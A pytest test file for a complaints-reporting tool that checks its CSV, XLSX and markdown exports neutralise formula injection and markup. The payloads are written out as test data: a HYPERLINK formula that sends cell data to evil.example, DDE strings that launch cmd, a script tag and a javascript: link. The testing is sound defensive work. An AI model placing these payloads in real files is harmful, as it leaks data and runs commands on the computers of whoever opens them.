"""No hostile cell reaches staff (issue 29, moderate 5 and 6). Values beginning `=`, `+`, `-`,
`@`, tab or CR (a team label, a reason for delay: staff- or complainant-supplied) are written
with a single quote in front, as OWASP advises, in the CSV and XLSX exports and in
report.xlsx; numbers stay numbers, and heard's own export reads back as it was. A label with
`$…$` or a control character never crashes a report, and a report that fails leaves its
folder as it was."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from reports.annual import build_report
from reports.case_export import export_rows, write_csv, write_xlsx
from reports.cells import inert
from reports.periods import financial_year
from reports.render import FILES, write_all
from tests.reports.datasets import Sheet

PRODUCED_ON = date(2026, 12, 6)  # the report's date

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *((value, "'" + value) for value in HOSTILE),
        ("-12.50", "-12.50"),  # a number stays a number
        ("+44", "+44"),
        ("12", "12"),
        ("East team", "East team"),
        (12, 12),
        (None, None),
    ],
)
def test_cells_are_made_inert(value: object, written: object) -> None:
    assert inert(value) == written


def _hostile_sheet() -> Sheet:
    sheet = Sheet()
    for number, label in enumerate(HOSTILE):
        sheet.add(
            record_kind="complaint",
            received_on="2022-05-02",
            team=label.strip() if label.startswith(("\t", "\r")) else label,
            stage1_received_on="2022-05-02",
            stage1_responded_on="2022-06-20",
            stage1_outcome="upheld",
            stage1_reason_for_delay=label,
            compensation="12.50" if number == 0 else "",
        )
    return sheet


def test_exports_write_no_live_formula_and_read_back(engine: Engine, load, tmp_path: Path) -> None:
    report = load(_hostile_sheet())
    assert report.created == len(HOSTILE), [str(each) for each in report.rejected]
    as_csv, as_xlsx = tmp_path / "cases.csv", tmp_path / "cases.xlsx"
    write_csv(export_rows(engine), as_csv)
    write_xlsx(export_rows(engine), as_xlsx)
    with as_csv.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value[1:].replace(".", "").isdigit(), value
    assert {row["compensation"] for row in rows} >= {"12.50"}
    workbook = load_workbook(as_xlsx)
    sheet = workbook["cases"]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    # heard's own export reads back as it was: the quote is taken off on import.
    before = sorted((row["reference"], row["team"], row["stage1_reason_for_delay"]) for row in rows)
    assert load(_hostile_sheet()).replaced == len(HOSTILE)
    again = tmp_path / "again.csv"
    write_csv(export_rows(engine), again)
    with again.open(newline="", encoding="utf-8") as handle:
        after = sorted(
            (row["reference"], row["team"], row["stage1_reason_for_delay"])
            for row in csv.DictReader(handle)
        )
    assert after == before


def test_report_workbook_has_no_live_formula(engine: Engine, load, tmp_path: Path) -> None:
    load(_hostile_sheet())
    report, figures = build_report(engine, financial_year(2022), today=PRODUCED_ON)
    out = tmp_path / "report"
    write_all(report, figures, out)
    workbook = load_workbook(out / "report.xlsx")
    seen_quoted = False
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                seen_quoted |= isinstance(cell.value, str) and cell.value.startswith("'=")
    assert seen_quoted  # the hostile team label is in the workbook, as text


@pytest.mark.parametrize("label", ["$x^{2}$ team $", "East\x0bteam\x07", "Bad \x1b[2J team"])
def test_hostile_labels_never_crash_a_report(
    engine: Engine, load, tmp_path: Path, label: str
) -> None:
    sheet = Sheet()
    sheet.add(record_kind="complaint", received_on="2022-05-02", team=label)
    sheet.add(record_kind="complaint", received_on="2022-06-02", team="West")
    load(sheet)
    report, figures = build_report(engine, financial_year(2022), today=PRODUCED_ON)
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "report"
    written = write_all(report, figures, out)
    assert [path.name for path in written] == list(FILES)
    assert all(path.stat().st_size > 0 for path in written)
    load_workbook(out / "report.xlsx")
    assert [path.name for path in out.parent.iterdir()] == ["report"]  # nothing left over


def test_a_report_that_fails_leaves_its_folder_as_it_was(
    engine: Engine, load, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sheet = Sheet()
    sheet.add(record_kind="complaint", received_on="2022-05-02", team="East")
    load(sheet)
    report, figures = build_report(engine, financial_year(2022), today=PRODUCED_ON)
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "report"
    write_all(report, figures, out)
    before = {path.name: path.read_bytes() for path in out.iterdir()}

    def fails(*_: object) -> None:
        raise ValueError("a writer refused a value")

    monkeypatch.setattr("reports.render.render_xlsx", fails)
    with pytest.raises(ValueError):
        write_all(report, figures, out)
    assert {path.name: path.read_bytes() for path in out.iterdir()} == before
    assert [path.name for path in out.parent.iterdir()] == ["report"]


def test_report_markdown_shows_markup_as_text(engine: Engine, load, tmp_path: Path) -> None:
    sheet = Sheet()
    sheet.add(record_kind="complaint", received_on="2022-05-02", team="<script>alert(1)</script>")
    sheet.add(record_kind="complaint", received_on="2022-05-03", team="[click](javascript:x)")
    load(sheet)
    report, figures = build_report(engine, financial_year(2022), today=PRODUCED_ON)
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "report"
    write_all(report, figures, out)
    markdown = (out / "report.md").read_text(encoding="utf-8")
    assert "<script>" not in markdown and "&lt;script&gt;" in markdown
    assert "[click](javascript" not in markdown and "\\[click\\](javascript:x)" in markdown
